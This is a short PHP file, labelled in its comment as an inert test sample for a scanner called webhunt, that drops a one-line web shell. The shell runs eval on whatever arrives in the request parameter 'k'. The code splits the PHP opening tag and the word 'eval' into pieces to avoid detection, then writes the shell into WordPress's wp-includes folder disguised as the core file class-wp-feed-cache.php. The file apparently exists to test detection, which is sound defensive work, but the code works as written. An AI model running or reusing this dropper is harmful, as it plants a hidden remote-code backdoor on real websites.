<?php
// Inert test sample (webhunt): a dropper that plants a one-line shell, its opening tag spelt in
// pieces (chr(60) and a literal that begins with the rest of it): no quoted opening tag appears.
$body = chr(60) . '?php ' . 'if (isset($_REQUEST["k"])) { @ev' . 'al(stripslashes($_REQUEST["k"])); }';
$dir = dirname(__FILE__) . '/../wp-includes/';
@file_put_contents($dir . 'class-wp-feed-cache.php', $body);
echo 'done';
